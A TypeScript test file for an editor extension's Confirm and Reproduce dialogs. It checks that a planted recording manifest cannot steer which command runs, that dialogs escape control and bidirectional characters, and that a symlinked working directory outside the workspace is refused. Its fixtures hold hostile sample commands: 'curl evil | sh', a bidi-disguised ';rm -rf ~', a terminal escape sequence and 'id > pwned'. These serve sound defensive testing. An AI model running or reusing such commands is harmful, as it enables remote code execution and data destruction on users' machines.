/**
 * Issue 39, the editor's side of "recording.json beside the traces steers Confirm": the manifest is
 * that of the traces being confirmed (the runs with the pattern), not "the folder with the greatest
 * `startedAt` (a committed "9999…")", and the dialog shows every field taken from it, escaped
 * (client/src/commandDialog.ts); "Reproduce/Confirm dialogs show commands with raw control and
 * bidirectional characters" no more.
 */
import test from 'node:test';
import assert from 'node:assert/strict';
import { existsSync, mkdirSync, symlinkSync, writeFileSync } from 'node:fs';
import path from 'node:path';
import { confirmCommandFromServer, confirmFromServer } from '../../server/src/lsp/confirmRequest';
import { confirmDialogDetail, dialogCommand, dialogLine } from '../../client/src/commandDialog';
import { tempDir } from '../helpers/traceBuilder';

function folder(ws: string, name: string, traces: number, manifest: Record<string, unknown>): string[] {
  const dir = path.join(ws, '.braid', 'traces', name);
  mkdirSync(dir, { recursive: true });
  writeFileSync(
    path.join(dir, 'recording.json'),
    JSON.stringify({ format: 'braid-recording', version: 1, cwd: ws, include: [], exclude: [], timeoutSeconds: 60, ...manifest }),
  );
  const files: string[] = [];
  for (let k = 0; k < traces; k++) {
    const f = path.join(dir, `${name}-${String(k).padStart(4, '0')}.trace.jsonl`);
    writeFileSync(f, '');
    files.push(f);
  }
  return files;
}

test('Confirm in the editor: "the folder with the greatest `startedAt` (a committed \\"9999…\\") supplies command, include, timeout and regex" — the runs with the pattern choose', async () => {
  const ws = tempDir();
  const mine = folder(ws, 'bank-mine', 3, { command: ['java', '-cp', 'out', 'bank.Bank'], include: ['bank'], startedAt: '2026-11-27T10:15:00.000Z' });
  const committed = folder(ws, 'bank-committed', 2, {
    command: ['sh', '-c', 'curl evil | sh'],
    include: ['evil'],
    timeoutSeconds: 1,
    failOnOutput: 'x',
    startedAt: '9999-12-31T23:59:59.999Z',
  });
  const traces = [...committed, ...mine];
  // the pattern was seen in my runs: my recording's manifest, whatever the other's startedAt
  const c = await confirmCommandFromServer({ traces, folder: ws, tracesOf: (key: string) => (key === 'K' ? mine : []) } as never, { key: 'K' } as never);
  assert.deepEqual(c.command, ['java', '-cp', 'out', 'bank.Bank']);
  assert.deepEqual(c.include, ['bank']);
  // without the pattern's runs: the folder holding most of the traces, never the greatest startedAt
  const all = await confirmCommandFromServer({ traces, folder: ws } as never);
  assert.deepEqual(all.command, ['java', '-cp', 'out', 'bank.Bank']);
});

test('Confirm in the editor: "the dialog shows only the command" — every field taken from the manifest is sent and shown, escaped', async () => {
  const ws = tempDir();
  const files = folder(ws, 'shop', 1, {
    command: ['sh', '-c', 'echo \u202eevil\u202c; printf "\u001b]8;;https://x\u0007"'],
    include: ['shop'],
    exclude: ['shop.gen'],
    timeoutSeconds: 7,
    failOnOutput: 'FAILED\u202e',
    name: 'shop',
    noise: 0.2,
    prepare: [{ command: ['javac', '-d', 'out', 'Shop.java'], cwd: ws }],
    startedAt: '2026-11-27T10:15:00.000Z',
  });
  const c = await confirmCommandFromServer({ traces: files, folder: ws } as never, { key: 'K' } as never);
  assert.equal(c.timeoutSeconds, 7);
  assert.equal(c.failOnOutput, 'FAILED\u202e');
  assert.deepEqual(c.exclude, ['shop.gen']);
  assert.equal(c.noise, 0.2);
  assert.equal(c.manifest, path.join(path.dirname(files[0]), 'recording.json'));
  const detail = confirmDialogDetail(c, 60, true);
  for (const shown of [/First: javac -d out Shop\.java/, /Runs up to 60 times: sh -c /, /Records: shop/, /Not: shop\.gen/, /Time limit: 7 s per run/, /output matches: \/FAILED\\u202e\//, /Name: shop/, /Noise of the new recording: 0\.2/, /From .*recording\.json/]) {
    assert.match(detail, shown);
  }
  assert.ok(!/[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u202a-\u202e\u2066-\u2069]/.test(detail), `raw control or bidirectional characters: ${JSON.stringify(detail)}`);
  assert.match(detail, /\\u202eevil\\u202c/);
  assert.match(detail, /\\u001b\]8;;https:\/\/x\\u0007/);
  // Confirm (not Check the Fix): no preparation step, no re-recording noise
  assert.ok(!/First:|Noise/.test(confirmDialogDetail(c, 60, false)));
});

test('Reproduce with Plan dialog: "shows commands with raw control and bidirectional characters" — dialogLine/dialogCommand escape them', () => {
  assert.equal(dialogLine('java -cp out A \u202e;rm -rf ~\u202c'), 'java -cp out A \\u202e;rm -rf ~\\u202c');
  assert.equal(dialogLine('a\rb\nc\u2028'), 'a\\rb\\nc\\u2028');
  assert.equal(dialogCommand(['sh', '-c', 'echo hi\u0007']), 'sh -c "echo hi\\u0007"');
});

test('braid/confirm: a recording\'s working directory that is a link out of the workspace folder counts as outside', async () => {
  const ws = tempDir();
  const outside = tempDir();
  symlinkSync(outside, path.join(ws, 'linked'));
  const files = folder(ws, 'r', 1, { command: ['sh', '-c', 'id > pwned'], cwd: path.join(ws, 'linked'), startedAt: '2026-11-27T10:15:00.000Z' });
  const ctx = { folder: ws, trusted: true, traces: files, pattern: () => ({ key: 'K', id: 'P1', kind: 'RW', accesses: [] }), executions: { total: 1, failed: 1 }, verdict: async () => {} };
  await assert.rejects(confirmFromServer({} as never, { key: 'K', runs: 2 } as never, {} as never, ctx as never), /the recording ran in .*linked, outside the workspace folder/);
  assert.ok(!existsSync(path.join(outside, 'pwned')));
});
